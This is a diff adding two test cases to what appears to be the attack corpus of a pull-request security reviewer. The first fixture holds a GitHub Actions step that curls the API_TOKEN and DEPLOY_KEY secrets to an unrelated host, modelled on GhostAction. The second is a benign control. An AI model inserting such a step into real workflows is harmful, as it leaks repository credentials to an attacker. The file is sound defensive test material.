@@ -1013,4 +1013,49 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
   },
+  {
+    id: 'attack-anonymous-secret-to-stats-host',
+    description:
+      'GhostAction (GitGuardian, September 2025) with a secret of no particular service: a "report build stats" step posts the repository\'s API_TOKEN and DEPLOY_KEY in a request body to a host that is no service\'s and not the project\'s.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7140,
+        title: 'ci: report build stats',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Build stats', '        run: curl -s -X POST https://collect.buildmetrics-cdn.net/v1/run -d "id=$GITHUB_RUN_ID&k=${{ secrets.API_TOKEN }}" --data-urlencode "d=$DK"', '        env:', '          DK: ${{ secrets.DEPLOY_KEY }}'] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-anonymous-secret-to-own-host',
+    description: "A maintainer posts the API token to the project's own release server (named after the organization), purges a CDN through its deploy hook's URL, and notifies through Pushover with secrets named for it.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7141,
+        title: 'ci: announce releases',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Register release',
+              '        run: curl -fsS -X POST https://releases.acme-tools.dev/api/register -d "version=${GITHUB_REF_NAME}&token=${{ secrets.API_TOKEN }}"',
+              '      - name: Purge CDN',
+              '        run: curl -fsS -X POST "https://hooks.fastcdn.example/purge?key=${{ secrets.DEPLOY_KEY }}"',
+              '      - name: Notify',
+              '        run: curl -s -F "token=${{ secrets.PUSHOVER_TOKEN }}" -F "user=${{ secrets.PUSHOVER_USER }}" -F "message=tint released" https://api.pushover.net/1/messages.json',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
 ];
